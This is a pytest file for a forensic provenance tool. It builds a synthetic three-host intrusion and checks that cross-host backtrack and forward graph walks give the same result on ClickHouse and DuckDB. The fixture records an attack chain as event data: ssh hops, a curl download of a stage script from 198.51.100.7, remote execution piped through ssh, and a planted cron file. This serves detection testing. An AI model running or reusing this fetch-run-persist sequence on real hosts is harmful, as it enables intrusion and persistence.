"""A walk without --host that crosses two connections (A -> B -> C) goes on from the frontier
that crossed: the same graph as the walk that starts again each time a host joins (the
earlier way, ``across_hosts(restart=True)``) and as DuckDB's over the whole store, with each
host's rows pulled once per table (counted in ``ClickHouseReader.pulls``, the reader's own
record of every SELECT it sent for a slice).

Generated (one kernel is one host to the recorder): app01's shell, entered over ssh from
outside, ssh-es to mid01; there a script fetched by curl and made executable by a chmod the
kernel resolved by name only (no inode) is copied on by ssh to vault01, whose shell runs it
and plants a cron file. vault01 has a script of the same name: its name is asked while
vault01 is the only host of the slice, so mid01's life of that name is found only if the
name index asks the added hosts again (``analysis.crosshost.HostNames``). other01 copied a
backup to vault01's rsync daemon an hour earlier (not on the trail) and is never pulled.
"""

from __future__ import annotations

import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from forensix.analysis.crosshost import across_hosts
from forensix.analysis.graph import Graph, backtrack, forward
from forensix.analysis.report import build_report
from forensix.analysis.targets import Target, parse_target
from forensix.model.identity import format_entity
from forensix.render.report import render_markdown
from forensix.store.base import Reader, Writer
from forensix.store.clickhouse import ClickHouseReader, ClickHouseStore
from forensix.store.embedded import open_reader, open_writer
from forensix.testing.clickhouse import Cluster
from forensix.testing.generator import O_CREAT, O_TRUNC, O_WRONLY, StoreBuilder

A, B, C = ("10.0.1.1", "app01"), ("10.0.1.2", "mid01"), ("10.0.1.3", "vault01")
PLANTED = "/etc/cron.d/chain"
STAGE = "/tmp/stage.sh"
LIB = "/usr/lib/x86_64-linux-gnu/libssh.so.4"


def _host(name: str) -> StoreBuilder:
    return StoreBuilder(host_id=f"{name}-machine-id", host_name=name, boot_id=f"boot-{name}")


def chain(store: Writer) -> dict[str, int]:
    """Write the three-host chain (and other01) into ``store``; returns entity ids by role."""
    a, b, c, o = _host(A[1]), _host(B[1]), _host(C[1]), _host("other01")
    procs: dict[str, int] = {}
    sshd = {}
    for h, pid in ((a, 500), (b, 600), (c, 700)):
        init = h.spawn(None, 1, 0, "/usr/lib/systemd/systemd", ["/sbin/init"])
        sshd[h.host_name] = h.spawn(init, pid, 1, "/usr/sbin/sshd", ["sshd: /usr/sbin/sshd -D [listener]"])
    # an hour before: other01 copies a backup to vault01's rsync daemon (not on the trail)
    o_init = o.spawn(None, 1, 0, "/usr/lib/systemd/systemd", ["/sbin/init"])
    o_ssh = o.spawn(o_init, 900, 100, "/usr/bin/rsync", ["rsync", "-a", "/srv", f"{C[0]}::backup"])
    o.connect(o_ssh, 100.1, ("10.0.1.9", 40009), (C[0], 873))
    rsyncd = c.spawn(sshd[C[1]].parent, 800, 2, "/usr/bin/rsync", ["rsync", "--daemon"])
    c.accept(rsyncd, 100.15, (C[0], 873), ("10.0.1.9", 40009))
    # app01: entered from outside, its shell ssh-es to mid01
    a.accept(sshd[A[1]], 3700, (A[0], 22), ("203.0.113.66", 51515))
    a_bash = a.spawn(sshd[A[1]], 4001, 3701, "/usr/bin/bash", ["-bash"], uid=1000, auid=1000, sid=11, tty="pts/0")
    a_ssh = a.spawn(a_bash, 4010, 3710, "/usr/bin/ssh", ["ssh", B[0]])
    a.connect(a_ssh, 3710.1, (A[0], 40001), (B[0], 22))
    b.accept(sshd[B[1]], 3710.15, (B[0], 22), (A[0], 40001))
    # mid01: fetch a script, chmod it by name (path-resolved: no inode), copy it on to vault01
    b_bash = b.spawn(sshd[B[1]], 5001, 3711, "/usr/bin/bash", ["-bash"], uid=1000, auid=1000, sid=21, tty="pts/1")
    curl = b.spawn(b_bash, 5002, 3712, "/usr/bin/curl", ["curl", "-o", STAGE, "http://198.51.100.7/s"])
    b.connect(curl, 3712.1, (B[0], 40100), ("198.51.100.7", 80))
    b.write_file(curl, 3712.3, STAGE, 512)
    b.file_op(b_bash, 3713, "chmod", STAGE, file_mode=0o755, file_inode=None, file_device=None, file_type=None,
              file_path_resolution="directory")
    b_scp = b.spawn(b_bash, 5010, 3714, "/usr/bin/ssh", ["ssh", C[0], "sh -s"])
    b.read_file(b_scp, 3714.05, STAGE, 512)
    # a library the ssh client maps, which dpkg replaces on mid01 hours later: the walk keeps a
    # system file's read only if something ever wrote it, an answer outside a backtrack's window
    b.mmap(b_scp, 3714.02, LIB)
    dpkg = b.spawn(sshd[B[1]].parent, 7100, 9100, "/usr/bin/dpkg", ["dpkg", "-i", "libssh.deb"])
    b.open(dpkg, 9100.5, LIB, O_WRONLY | O_TRUNC)
    b.connect(b_scp, 3714.1, (B[0], 40002), (C[0], 22))
    c.accept(sshd[C[1]], 3714.15, (C[0], 22), (B[0], 40002))
    # vault01: its shell writes the script it is sent (the same name) and runs it
    c_bash = c.spawn(sshd[C[1]], 6001, 3715, "/usr/bin/bash", ["bash", "-c", "cat > /tmp/stage.sh; sh /tmp/stage.sh"],
                     uid=0, auid=1000, sid=31)
    c.write_file(c_bash, 3715.1, STAGE, 512)
    c_sh = c.spawn(c_bash, 6002, 3716, "/usr/bin/sh", ["sh", STAGE])
    c.read_file(c_sh, 3716.05, STAGE, 512)
    c.open(c_sh, 3717.1, PLANTED, O_WRONLY | O_CREAT | O_TRUNC, 0o644)
    c.flow(c_sh, 3717.2, 3717.3, PLANTED, write=64)
    # mid01's own work long before and long after the intrusion: outside the window of either
    # walk that crosses into mid01 (store.clickhouse.window), reached by neither
    for t in (1000, 9000):
        job = b.spawn(sshd[B[1]].parent, 7000 + t // 1000, t, "/usr/sbin/logrotate", ["logrotate"])
        b.write_file(job, t + 0.5, f"/var/log/rotated-{t}.log", 128)
    for h in (a, b, c, o):
        h.write(store)
    procs.update(a_bash=a_bash.entity_id, a_ssh=a_ssh.entity_id, b_bash=b_bash.entity_id, c_sh=c_sh.entity_id,
                 o_ssh=o_ssh.entity_id)
    return procs


@pytest.fixture(scope="module")
def stores(cluster: Cluster, tmp_path_factory: pytest.TempPathFactory) -> tuple[str, str, dict[str, int]]:
    path = tmp_path_factory.mktemp("chain") / "chain.duckdb"
    w = open_writer(path)
    gt = chain(w)
    w.close()
    url = cluster.url(database=f"c_{uuid.uuid4().hex[:12]}")
    with ClickHouseStore(url, write=True) as ch:
        chain(ch)
    return str(path), url, gt


def _shape(g: Graph | None) -> tuple[Any, ...]:
    """What a user sees of a graph: every node (kind, label, depth, time, host) and every edge."""
    if g is None:
        return ()
    nodes = sorted((k, n.kind, n.label, n.depth, n.time, str(n.attrs.get("host_name")), str(n.attrs.get("cross_host")))
                   for k, n in g.nodes.items())
    edges = sorted((e.src, e.dst, e.kind, e.t_start, e.t_end, e.bytes, e.count, e.name_matched) for e in g.edges)
    return tuple(nodes), tuple(edges), tuple(sorted(g.hidden.items())), g.truncated


def _on_cluster(url: str, profile: str, target: Target, run: Callable[[Reader], Any],
                graphs: Callable[[Any], list[Graph | None]], restart: bool,
                windowed: bool = False) -> tuple[Any, ClickHouseReader, set[str]]:
    """The answer, the reader, and the files named in the events the slice held at the end
    (read straight from its DuckDB: a query through the reader would top them up)."""
    r = ClickHouseReader(ClickHouseStore(url), own_store=True, profile=profile)
    if windowed:
        r.window_from = 0  # every host crossed into joins in a window, however small
    try:
        out = across_hosts(r, target, run, graphs, restart=restart)
        held = {str(p) for (p,) in r.load().execute("SELECT DISTINCT file_path FROM events_base "
                                                     "WHERE file_path IS NOT NULL").fetchall()}
        return out, r, held
    finally:
        r.close()


def _pulled_once(r: ClickHouseReader) -> list[tuple[str, ...]]:
    """Each (table, host) pulled once (top-ups outside a crossed-into host's window aside);
    returns the hosts of each events pull, in order."""
    pulls = [p for p in r.pulls if p.part == "slice"]
    seen: list[tuple[str, str]] = [(p.table, h) for p in pulls for h in (p.hosts or ("every host",))]
    assert len(seen) == len(set(seen)), sorted(seen)
    return [p.hosts or () for p in pulls if p.table == "events"]


@pytest.mark.parametrize("windowed", [False, True], ids=["whole", "windowed"])
@pytest.mark.parametrize("direction", ["backtrack", "forward"])
def test_the_walk_goes_on_from_the_crossing(stores: tuple[str, str, dict[str, int]], direction: str,
                                            windowed: bool) -> None:
    """Windowed: each host crossed into is pulled only around its crossing (before it for a
    backtrack, after it for forward) plus the rows outside that the walk's queries reach by
    key; the answer is the same."""
    duck, url, gt = stores
    if direction == "backtrack":
        target = parse_target(PLANTED)
        run: Callable[[Reader], Graph] = lambda r: backtrack(r, target)
        order = [(C[1],), (B[1],), (A[1],)]
    else:
        target = parse_target(format_entity(gt["a_bash"]))
        run = lambda r: forward(r, target)
        order = [(A[1],), (B[1],), (C[1],)]
    went_on, r, held = _on_cluster(url, direction, target, run, lambda g: [g], restart=False, windowed=windowed)
    again, r0, _ = _on_cluster(url, direction, target, run, lambda g: [g], restart=True)
    d = open_reader(duck)
    try:
        whole = run(d)
    finally:
        d.close()
    assert _shape(went_on) == _shape(again) == _shape(whole)
    procs = {k for k, n in went_on.nodes.items() if n.kind == "process"}
    assert {"p:" + format_entity(gt[k]) for k in ("a_bash", "a_ssh", "b_bash", "c_sh")} <= procs
    assert "p:" + format_entity(gt["o_ssh"]) not in procs
    # two crossings, each marked; mid01's chmod by name joined to mid01's script (not vault01's)
    crossings = sorted(n.attrs["cross_host"] for n in went_on.nodes.values() if n.attrs.get("cross_host"))
    assert crossings == ["app01 -> mid01", "mid01 -> vault01"]
    if direction == "backtrack":
        # the library's read stays: dpkg's write, outside mid01's window, was topped up by its inode
        assert any(n.attrs.get("path") == LIB for n in went_on.nodes.values())
        chmod = [e for e in went_on.edges if e.kind == "chmod"]
        assert len(chmod) == 1 and chmod[0].name_matched and chmod[0].src == "p:" + format_entity(gt["b_bash"])
        assert went_on.nodes[chmod[0].dst].attrs["host_name"] == B[1]
    # the hosts joined one at a time, as the walk reached them, each pulled once per table;
    # other01 (an older connection to vault01, not on the trail) never
    assert _pulled_once(r) == order
    assert {h for p in r0.pulls for h in p.hosts or ()} == {A[1], B[1], C[1]}
    # mid01 (crossed into either way) was read around the crossing only: its work an hour
    # before (forward) or after (backtrack) was never pulled; the whole walk pulled both
    outside = "/var/log/rotated-9000.log" if direction == "backtrack" else "/var/log/rotated-1000.log"
    assert (outside in held) is not windowed
    assert bool(r.windows) is windowed and set(r.windows) == ({B[1], order[-1][0]} if windowed else set())


def test_the_report_is_the_same(stores: tuple[str, str, dict[str, int]], tmp_path: Path) -> None:
    """The report (its backtrack, then the forward walk of the session it finds) crosses
    as its graphs do: the same text either way (and with the hosts crossed into windowed),
    each host pulled once per table."""
    _, url, _ = stores
    target = parse_target(PLANTED)
    texts = []
    for restart, windowed in ((False, False), (True, False), (False, True)):
        rep, r, _ = _on_cluster(url, "report", target, lambda x: build_report(x, target),
                                lambda rep: [rep.graph, rep.impact], restart=restart, windowed=windowed)
        out = tmp_path / f"r{restart}.md"
        with out.open("w") as f:
            render_markdown(rep, f)
        texts.append(out.read_text())
        if not restart:
            assert _pulled_once(r)[0] == (C[1],)
    assert "cross-host: mid01 -> vault01" in texts[0] and "cross-host: app01 -> mid01" in texts[0]
    # the same lines (objects of equal rank may be drawn in either order, as test_fleet_slice allows)
    assert sorted(texts[0].splitlines()) == sorted(texts[1].splitlines()) == sorted(texts[2].splitlines())
